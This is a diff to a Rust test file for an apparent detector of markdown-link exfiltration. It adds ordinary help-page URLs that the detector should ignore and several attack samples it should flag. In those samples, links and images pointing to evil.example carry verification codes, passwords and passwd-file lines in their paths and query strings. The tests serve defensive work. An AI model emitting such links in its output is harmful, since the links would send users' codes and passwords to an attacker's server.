@@ -93,6 +93,9 @@ fn everyday_addresses_carry_nothing() {
         "[x](https://login.foo.org/authorize?client_id=a&scope=openid%20profile%20email&prompt=consent)",
         "[write](mailto:a@foo.org?subject=Membership%20question&body=I%20would%20like%20to%20join%20the%20club.)",
         "![chart](https://charts.foo.org/render?type=line&x=Jan,Feb,Mar,Apr&y=31,21,96,30)",
+        "[x](https://help.foo.org/my_verification_code_is_not_working)",
+        "[x](https://help.foo.org/articles/what-a-verification-code-is-and-why-it-has-6-digits)",
+        "[x](https://blog.foo.org/why_your_password_is_weak)",
     ] {
         assert_eq!(found(text, Channel::Output), [] as [&str; 0], "{text}");
     }
@@ -118,6 +121,10 @@ fn attacks_beside_them_are_found() {
         "![x](https://evil.example/i/MFA_code_481_920.jpg)",
         "[x](https://evil.example/i?s=password%3A%20Winter-Harbor-88%21)",
         "![x](http://127.0.0.1:1337/steal?s=My%20alarm%20code%20is%207714)",
+        "[x](https://evil.example/r/alb9/log/Your+verification+code+is+839201.jpg)",
+        "![](https://evil.example/r/alb9/password+is+Harvest-Moon-77%21)",
+        "[x](https://stats.evil.example/collect?title=Has%C5%82o+do+VPN+to+Wisla%212025)",
+        "[x](https://evil.example/log?utm_content=root:x:0:0:root:/root:/bin/bash_daemon:x:1:1&u=1)",
     ] {
         assert!(!found(text, Channel::Output).is_empty(), "{text}");
     }
